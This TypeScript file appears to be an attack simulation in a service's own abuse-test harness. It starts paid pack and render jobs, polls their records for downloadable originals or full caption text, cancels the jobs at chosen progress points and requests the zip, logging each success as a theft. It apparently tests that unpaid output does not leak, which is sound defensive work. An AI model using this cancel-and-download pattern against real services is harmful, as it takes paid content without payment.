// Attack: packs without paying, by downloading what the record of a running job shows and cancelling at every step.

import { setTimeout as sleep } from 'node:timers/promises';
import { limits } from '@galley/contract';
import { type AttackContext, nameOf, repeat } from './attack-context.ts';

type Asset = Record<string, unknown>;
type PackRecord = {
  status?: string;
  progress?: { percent: number };
  clips?: Asset[];
  stills?: Asset[];
  video?: Asset;
  captions?: { text: string | null; preview?: string }[];
};

/** How far a job gets before it is cancelled: the first asset, half way, and as late as possible. */
const STEPS = [1, 50, 75, 90, 97] as const;
const POLL_MS = 400;
const ORIGINALS = ['url', 'poster_url', 'srt_url'] as const;

const orders = [
  { operation: 'instant_post', path: '/instant-post', body: packOf },
  { operation: 'kitchen_render', path: '/kitchen/render', body: (url: string) => ({ url }) },
  { operation: 'scroll_video', path: '/capture/video', body: (url: string) => ({ url }) },
] as const;

function packOf(url: string) {
  return { mode: 'from_url', from_url: { url } };
}

export async function stealPacks(context: AttackContext): Promise<void> {
  await repeat(context, { lines: 3, everyMs: 500 }, async (number) => {
    const { operation, path, body } = orders[number % orders.length] ?? orders[0];
    const step = STEPS[number % STEPS.length] ?? 1;
    const accepted = await context.api(`POST ${path}`, body(`${context.site}/?stolen=${number}`));
    context.count(`${operation} ${nameOf(accepted)}`);
    const id = accepted.body['job_id'];
    if (typeof id !== 'string') return sleep(2_000);
    await watch(context, { id, operation, step });
  });
}

type RunningJob = { id: string; operation: string; step: number };

async function watch(context: AttackContext, job: RunningJob): Promise<void> {
  const { id, operation } = job;
  const seen = new Set<string>();
  const read = async (): Promise<PackRecord> => {
    const shown = (await context.api(`GET /jobs/${id}`)).body as PackRecord;
    if (shown.status === 'completed') context.receive(operation);
    else if (await takes(shown, seen)) context.steal(`${operation} of ${id} while it is ${shown.status}`);
    return shown;
  };
  let shown = await read();
  while (!(isOver(shown) || isLate(shown, job) || context.isOver())) {
    await sleep(POLL_MS);
    shown = await read();
  }
  if (isOver(shown)) return;
  context.count(`cancel ${nameOf(await context.api(`POST /jobs/${id}/cancel`, {}))}`);
  const { status } = await read();
  if (status === 'completed') return;
  const zip = await context.api(`GET /instant-post/jobs/${id}/zip`);
  if (zip.status === 200) context.steal(`zip of ${id}`);
}

function isOver({ status }: PackRecord): boolean {
  return status === 'completed' || status === 'failed';
}

function isLate({ progress, clips = [], stills = [], video }: PackRecord, { step }: RunningJob): boolean {
  const hasAssets = clips.length + stills.length > 0 || video !== undefined;
  return hasAssets && (progress?.percent ?? 0) >= step;
}

/** Whether the record contains a downloadable original, or more of a text than its beginning. */
async function takes(
  { clips = [], stills = [], video, captions = [] }: PackRecord,
  seen: Set<string>,
): Promise<boolean> {
  if (captions.some(({ text }) => (text ?? '').length > limits.previewCharacters)) return true;
  const assets = [...clips, ...stills, ...(video === undefined ? [] : [video])];
  const urls = assets.flatMap((asset) => ORIGINALS.map((name) => asset[name]));
  for (const url of urls) {
    if (typeof url !== 'string' || seen.has(url)) continue;
    seen.add(url);
    if ((await fetch(url)).ok) return true;
  }
  return false;
}
